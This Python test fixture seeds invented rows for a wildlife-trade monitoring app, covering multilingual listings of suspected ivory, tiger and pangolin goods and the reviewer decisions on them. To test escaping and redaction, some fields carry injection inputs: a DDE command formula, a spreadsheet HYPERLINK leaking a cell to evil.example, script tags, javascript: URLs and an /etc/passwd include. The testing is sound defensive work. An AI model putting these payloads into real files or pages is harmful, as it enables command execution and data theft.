# ruff: noqa: RUF001  # letters of many alphabets are what these texts are for
"""The rows behind the golden content: three sources, nine listings, twelve findings, and what people decided of them.

Everything is invented. The texts are what sellers write in many alphabets, and what an attacker would write.
"""

import hashlib
from collections.abc import Mapping, Sequence
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from typing import Any

from PIL import Image
from sqlalchemy.orm import Session

from tests.factories import MODEL, MODEL_DIGEST, PACK_DIGEST, add, make_scan, make_source, make_user, place_photo
from tests.pictures import noise
from webapp.models import (
    Decision,
    DecisionUndo,
    FindingRow,
    FindingState,
    ListingEvent,
    ListingEventKind,
    ListingRow,
    PhotoRow,
    Role,
    ScoreRow,
    Source,
    Stage,
    User,
    Verdict,
)

START = datetime(2026, 11, 1, tzinfo=UTC)
END = datetime(2026, 12, 1, tzinfo=UTC)
PRIMARY, PRIMARY_DIGEST = "tuskline_resnet50", "9" * 64
PICTURE_COUNT = 8
# What no reader of a redacted file may find.
SELLERS = ("Nguyễn Thị Hương", "Древности & Ко", "上海古玩 王先生", "=cmd|' /C calc'!A0")
REVIEWERS = ("Ann Ortega", "Boris Lind", "Chi Wen")


def day(number: int, hour: int = 9) -> datetime:
    """The day of November 2026, in UTC."""
    return START + timedelta(days=number - 1, hours=hour)


def digest_of(number: int) -> str:
    """Of no real file: what a library makes of a picture changes with its version."""
    return hashlib.sha256(f"golden picture {number}".encode()).hexdigest()


def draw(number: int) -> Image.Image:
    """Picture `number`, from 0: 96 px wide, 48 to 96 px high."""
    return noise(96, 48 + 24 * (number % 3), seed=number)


def add_rows(session: Session) -> None:
    """Into an empty database."""
    people = [make_user(session, name, role) for name, role in zip(REVIEWERS, ROLES, strict=True)]
    sources = [make_source(session, name, kind) for name, kind in SOURCES]
    for source in sources:
        said = [(MODEL, MODEL_DIGEST, "fallback"), (PRIMARY, PRIMARY_DIGEST, "primary")]
        models = [{"name": name, "digest": digest, "role": role, "source": "a test"} for name, digest, role in said]
        make_scan(
            session,
            source,
            models=models,
            primary_absent=source is sources[2],
            queued_at=day(2),
            finished_at=day(2, 12),
        )
    listings = [add_listing(session, sources, **fields) for fields in LISTINGS]
    photos = [add_photo(session, number) for number in range(PICTURE_COUNT)]
    findings = [add_finding(session, listings, photos, **fields) for fields in FINDINGS]
    add_decisions(session, findings, people)
    add_events(session, listings)
    session.commit()


def add_listing(session: Session, sources: Sequence[Source], source: int, **fields: Any) -> ListingRow:
    seen = {"first_seen_at": day(2, 10), "last_seen_at": day(20, 10)}
    return add(session, ListingRow(source=sources[source], **seen | fields))


def add_photo(session: Session, number: int) -> PhotoRow:
    digest = digest_of(number)
    hashes = {"pixel_hash": digest[::-1], "look_hash": digest[32:] + digest[:32]} if number else {}
    gone = {"purged_at": day(25)} if number == PICTURE_COUNT - 1 else {}
    size_bytes = 2000 + number
    row = PhotoRow(
        sha256=digest, size_bytes=size_bytes, media_type="image/jpeg", first_seen_at=day(2), **hashes, **gone
    )
    row.width_px, row.height_px = (96, 48 + 24 * (number % 3)) if number else (None, None)
    return add(session, row)


def add_finding(
    session: Session,
    listings: Sequence[ListingRow],
    photos: Sequence[PhotoRow],
    listing: int,
    photo: int | None,
    found_at: datetime,
    **fields: Any,
) -> FindingRow:
    of, picture = listings[listing], photos[photo] if photo is not None else None
    if picture and picture not in [one.photo for one in of.appearances]:
        place_photo(session, of, picture)
    if picture and not picture.scores:
        add_scores(session, picture, fields)
    where = {"source_id": of.source_id, "seller": of.seller, "language": of.language}
    values = {"rule_version": 1, "pack_digest": PACK_DIGEST, "state": FindingState.OPEN, "primary_absent": False}
    row = FindingRow(
        listing=of,
        photo=picture,
        scan=make_scan(session, of.source, models=[], queued_at=day(2), finished_at=day(2, 12), primary_absent=False),
        appearance_key=f"{of.id}:{picture.id if picture else 0}",
        found_at=found_at,
        **where | values | (words_of(fields) if picture is None else score_of(fields)) | fields,
    )
    return add(session, row)


def score_of(fields: Mapping[str, Any]) -> dict[str, Any]:
    score, concept = fields["score"], fields["concept"]
    threshold = fields.get("threshold", 0.5)
    facts = {"concept": concept, "score": score, "threshold": threshold, "threshold_name": concept}
    return {
        "threshold": threshold,
        "model": MODEL,
        "model_digest": MODEL_DIGEST,
        "priority": 2.0 + score,
        "why": f"{concept} {score:.2f} reached the threshold {threshold:.2f} ({concept})",
        "reasons": {"kind": "score", "met": True, "facts": facts, "children": []},
    }


def words_of(fields: Mapping[str, Any]) -> dict[str, Any]:
    terms = [{"found": "象牙", "language": "zh", "kind": "plain", "concepts": ["ivory"]}]
    return {
        "priority": 2.5,
        "why": "the text holds “象牙” (Chinese, names ivory)",
        "reasons": {
            "kind": "mentions",
            "met": True,
            "facts": {"looked_for": fields["concept"], "terms": terms},
            "children": [],
        },
    }


def add_scores(session: Session, photo: PhotoRow, fields: Mapping[str, Any]) -> None:
    model, digest = fields.get("model", MODEL), fields.get("model_digest", MODEL_DIGEST)
    concept, score = fields["concept"], fields.get("score") or 0.31
    labels: list[Any] = [["African elephant", 0.7], ["tusker", 0.21]]
    add(
        session,
        ScoreRow(
            photo=photo,
            model=model,
            model_digest=digest,
            by_concept={concept: score, "other": round(1 - score, 6)},
            top_labels=labels,
            counters={"armadillo": 0.0312} if concept.startswith("pangolin") else {},
            scored_at=day(2, 11),
        ),
    )


def add_decisions(session: Session, findings: Sequence[FindingRow], people: Sequence[User]) -> None:
    made: list[Decision] = []
    for finding, person, verdict, at, more in DECISIONS:
        undone_at, revises = more.get("undone_at"), more.get("revises")
        own = {name: value for name, value in more.items() if name in ("note", "reason", "concept", "stage")}
        decision = Decision(
            finding=findings[finding],
            user=people[person],
            verdict=verdict,
            decided_at=at,
            role=people[person].role.value,
            revises_id=made[revises].id if revises is not None else None,
            **own,
        )
        made.append(add(session, decision))
        if undone_at:
            add(session, DecisionUndo(decision_id=decision.id, user_id=people[person].id, undone_at=undone_at))


def add_events(session: Session, listings: Sequence[ListingRow]) -> None:
    for listing, kind, at, takedown_s, facts in EVENTS:
        add(session, ListingEvent(listing=listings[listing], kind=kind, at=at, takedown_s=takedown_s, facts=facts))


ROLES = (Role.REVIEWER, Role.REVIEWER, Role.LEAD)
SOURCES = (("eBay, netsuke", "ebay"), ("Рынок древностей", "shop"), ('=HYPERLINK("http://x") 商店', "csv_file"))
LONG_WORD = "Elfenbeinschnitzereisammlung" * 12
LISTINGS: tuple[dict[str, Any], ...] = (
    {
        "source": 0,
        "url": "https://www.ebay.com/itm/Nguyen-Thi-Huong/110001?seller=huong",
        "title": "Tượng ngà voi cổ, chạm khắc tinh xảo – ngọc trai và san hô",
        "description": "Liên hệ chị Hương: huong.nguyen@example.com, Zalo 0912 345 678.\nGiao hàng toàn quốc.",
        "price": Decimal("12500000.00"),
        "currency": "VND",
        "seller": SELLERS[0],
        "seller_url": "https://www.ebay.com/usr/huong-antiques",
        "country": "VN",
        "language": "vi",
        "posted_at": day(1, 3),
        "removed_at": day(18),
    },
    {
        "source": 0,
        "url": "https://www.ebay.com/itm/110002",
        "title": "Netsuke, signed, Meiji period; material not stated",
        "description": "Ask Nguyễn Thị Hương on WhatsApp: +84 912 345 678 or @huong_antiques.",
        "price": Decimal("480.00"),
        "currency": "USD",
        "seller": SELLERS[0],
        "seller_url": "https://www.ebay.com/usr/huong-antiques",
        "country": "US",
        "language": "en",
        "posted_at": day(3),
    },
    {
        "source": 1,
        "url": "https://antik.example/ru/lot/77",
        "title": "Бивень мамонта, шкатулка резная",
        "description": "Древности & Ко. Телефон: +7 (912) 345-67-89, telegram @drevnosti_ko. "
        "IBAN DE89 3704 0044 0532 0130 00",
        "price": Decimal("35000.50"),
        "currency": "RUB",
        "seller": SELLERS[1],
        "seller_url": "https://antik.example/ru/seller/drevnosti",
        "country": "DE",
        "language": "ru",
        "posted_at": day(4),
        "removed_at": day(21, 15),
    },
    {
        "source": 1,
        "url": "https://antik.example/ru/lot/78",
        "title": "عقد من العاج القديم مع نقوش",
        "description": "قطعة أصلية، للتواصل: 00971501234567",
        "price": None,
        "currency": None,
        "seller": SELLERS[1],
        "seller_url": None,
        "country": "AE",
        "language": "ar",
        "posted_at": None,
    },
    {
        "source": 1,
        "url": "https://antik.example/ru/lot/79",
        "title": "เครื่องรางเขี้ยวเสือแกะ หลวงพ่อปาน ของเก่าเก็บ",
        "description": "ติดต่อ LINE: suea_old โทร 081-234-5678",
        "price": Decimal("9900.00"),
        "currency": "THB",
        "seller": None,
        "seller_url": None,
        "country": "TH",
        "language": "th",
        "posted_at": day(6),
    },
    {
        "source": 2,
        "url": "https://shop.example/item?id=5&from=王先生",
        "title": "老象牙手镯 包浆厚重 微信同号",
        "description": "上海古玩 王先生，微信：wang_guwan88，电话 138 1234 5678。卡号 6222 0200 0000 0000 000",
        "price": Decimal("8800.00"),
        "currency": "CNY",
        "seller": SELLERS[2],
        "seller_url": "https://shop.example/u/wang",
        "country": "CN",
        "language": "zh",
        "posted_at": day(7),
    },
    {
        "source": 2,
        "url": "https://shop.example/item?id=6",
        "title": "穿山甲 鳞片 工艺品",
        "description": "",
        "price": Decimal("1200.00"),
        "currency": "CNY",
        "seller": SELLERS[2],
        "seller_url": "https://shop.example/u/wang",
        "country": "CN",
        "language": "zh",
        "posted_at": day(8),
        "removed_at": day(9, 12),
    },
    {
        "source": 2,
        "url": "https://shop.example/item?id=7",
        "title": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
        "description": '<script>alert(1)</script> #import "x" \\input{/etc/passwd} $1 & <b>bold</b>'
        "\x07\x1b[31m\x0b {{ 7*7 }}",
        "price": Decimal("-2.00"),
        "currency": "EUR",
        "seller": SELLERS[3],
        "seller_url": "javascript:alert(1)",
        "country": "FR",
        "language": None,
        "posted_at": day(10),
    },
    {
        "source": 2,
        "url": "https://shop.example/item?id=8",
        "title": f"@SUM(1+1) {LONG_WORD} +tiger \u202eerutcip\u202c *skin* _rug_ #1 🐅 \U00020bb7 ꦲꦏ",
        "description": "-2+3\n" + "w" * 400,
        "price": Decimal("0.01"),
        "currency": "GBP",
        "seller": SELLERS[3],
        "seller_url": "javascript:alert(1)",
        "country": "GB",
        "language": "en",
        "posted_at": day(11),
    },
)
IVORY = {"rule": "ivory_seen", "title": "Suspected ivory in the picture", "concept": "ivory", "severity": "high"}
CARVED = {
    "rule": "ivory_product_seen",
    "title": "Suspected ivory product in the picture",
    "concept": "ivory_product",
    "severity": "high",
}
NAMED = {"rule": "ivory_words", "title": "Suspected ivory by name", "concept": "ivory", "severity": "medium"}
ELEPHANT = {
    "rule": "elephant_seen",
    "title": "Suspected elephant in the picture",
    "concept": "elephant",
    "severity": "low",
}
TOOTH = {
    "rule": "tiger_tooth_claw_bone_seen",
    "title": "Suspected tiger tooth, claw or bone in the picture",
    "concept": "tiger_tooth_claw_bone",
    "severity": "high",
}
SKIN = {
    "rule": "tiger_skin_seen",
    "title": "Suspected tiger skin in the picture",
    "concept": "tiger_skin",
    "severity": "critical",
}
SCALE = {
    "rule": "pangolin_scale_seen",
    "title": "Suspected pangolin scale in the picture",
    "concept": "pangolin_scale",
    "severity": "high",
    "rule_version": 2,
}
BY_PRIMARY = {"model": PRIMARY, "model_digest": PRIMARY_DIGEST}
ASKED_BY_SELLER = {
    "why": "a reviewer added it: same seller Nguyễn Thị Hương, huong.nguyen@example.com",
    "reasons": {
        "kind": "any",
        "met": True,
        "facts": {},
        "children": [
            {
                "kind": "score",
                "met": True,
                "facts": {
                    "concept": "ivory_product",
                    "score": 0.8125,
                    "threshold": 0.5,
                    "threshold_name": "ivory_product",
                    "said": {MODEL: 0.8125},
                },
                "children": [],
            },
            {
                "kind": "mentions",
                "met": False,
                "facts": {"looked_for": "ivory", "concepts": ["ivory"], "kinds": ["plain", "coded"]},
                "children": [],
            },
        ],
    },
}
FINDINGS: tuple[dict[str, Any], ...] = (
    {"listing": 0, "photo": 0, "found_at": day(2), "state": FindingState.CONFIRMED, "score": 0.934217, **CARVED}
    | BY_PRIMARY,
    {"listing": 0, "photo": 1, "found_at": day(2), "state": FindingState.CONFIRMED, "score": 0.51, **ELEPHANT},
    {"listing": 1, "photo": 0, "found_at": day(3), "state": FindingState.ESCALATED, "score": 0.8125, **CARVED}
    | ASKED_BY_SELLER,
    {"listing": 2, "photo": 2, "found_at": day(4), "state": FindingState.CONFIRMED, "score": 0.7, **IVORY},
    {"listing": 3, "photo": 3, "found_at": day(5), "state": FindingState.DISMISSED, "score": 0.62, **IVORY},
    {"listing": 4, "photo": 4, "found_at": day(6), "state": FindingState.CONFIRMED, "score": 0.88, **TOOTH}
    | BY_PRIMARY,
    {"listing": 5, "photo": None, "found_at": day(7), "state": FindingState.OPEN, **NAMED},
    {"listing": 5, "photo": 5, "found_at": day(7), "state": FindingState.OPEN, "score": 0.990001, **CARVED}
    | BY_PRIMARY
    | {"threshold": 0.75},
    {"listing": 6, "photo": 6, "found_at": day(8), "state": FindingState.CONFIRMED, "score": 0.55, **SCALE}
    | {"primary_absent": True},
    {"listing": 7, "photo": None, "found_at": day(10), "state": FindingState.WITHDRAWN, **NAMED},
    {"listing": 8, "photo": 7, "found_at": day(11), "state": FindingState.DISMISSED, "score": 0.5, **SKIN}
    | {"primary_absent": True},
    # Found before the period, and decided in it.
    {"listing": 8, "photo": 1, "found_at": day(-20), "state": FindingState.DISMISSED, "score": 0.5004, **ELEPHANT},
)
REASONED = {"reason": "picture_shows_it"}
LEAK = "Seen before: nguyễn thị hương, see https://www.ebay.com/usr/huong-antiques. Ask Boris Lind, boris@example.org"
# finding, person, verdict, when, more
DECISIONS: tuple[tuple[int, int, Verdict, datetime, dict[str, Any]], ...] = (
    (0, 0, Verdict.CONFIRM, day(5), {"note": LEAK, "concept": "ivory_product", **REASONED}),
    (0, 1, Verdict.CONFIRM, day(6), {"stage": Stage.SECOND}),
    (1, 0, Verdict.CONFIRM, day(5), REASONED),
    (2, 1, Verdict.ESCALATE, day(6), {"reason": "needs_expert", "note": "=1+1 Is it ivory? 象牙还是骨头"}),
    (3, 0, Verdict.DISMISS, day(6), {"reason": "look_alike_material", "note": "Mammoth?"}),
    (3, 1, Verdict.CONFIRM, day(7), {"stage": Stage.SECOND, "note": "Schreger angles\nof elephant"}),
    (3, 2, Verdict.CONFIRM, day(8), {"stage": Stage.ADJUDICATION, "concept": "ivory"}),
    (4, 1, Verdict.CONFIRM, day(7), {"undone_at": day(7) + timedelta(minutes=2)}),
    (4, 1, Verdict.DISMISS, day(8), {"reason": "colour_or_figure_of_speech"}),
    (5, 0, Verdict.ESCALATE, day(8), {"reason": "needs_expert"}),
    (5, 2, Verdict.CONFIRM, day(9), {"stage": Stage.FIRST, "reason": "offered_for_sale"}),
    (8, 1, Verdict.CONFIRM, day(9), {"concept": "pangolin_scale"}),
    (10, 0, Verdict.CONFIRM, day(12), {"note": "tiger"}),
    (10, 0, Verdict.DISMISS, day(13), {"revises": 12, "reason": "toy_print_or_artwork", "note": "a printed blanket"}),
    (11, 1, Verdict.DISMISS, day(13), {"reason": "other", "note": "+a postcard, not a <b>tusk</b>"}),
)
GONE = "The page answered 404 (Not Found)."
# listing, kind, when, seconds from the first finding, facts
EVENTS: tuple[tuple[int, ListingEventKind, datetime, int | None, dict[str, Any]], ...] = (
    (1, ListingEventKind.RELISTED, day(3), None, {"photo_id": 1, "earlier_listing_id": 1, "other_seller": False}),
    (6, ListingEventKind.REMOVED, day(9, 12), 97_200, {"reason": GONE, "last_seen_at": day(9, 10).isoformat()}),
    (0, ListingEventKind.REMOVED, day(12), 864_000, {"reason": GONE, "last_seen_at": day(11).isoformat()}),
    (0, ListingEventKind.RETURNED, day(14), None, {}),
    (0, ListingEventKind.REMOVED, day(18), 1_382_400, {"reason": GONE, "last_seen_at": day(17).isoformat()}),
    (2, ListingEventKind.REMOVED, day(21, 15), 1_490_400, {"reason": GONE, "last_seen_at": day(20).isoformat()}),
)
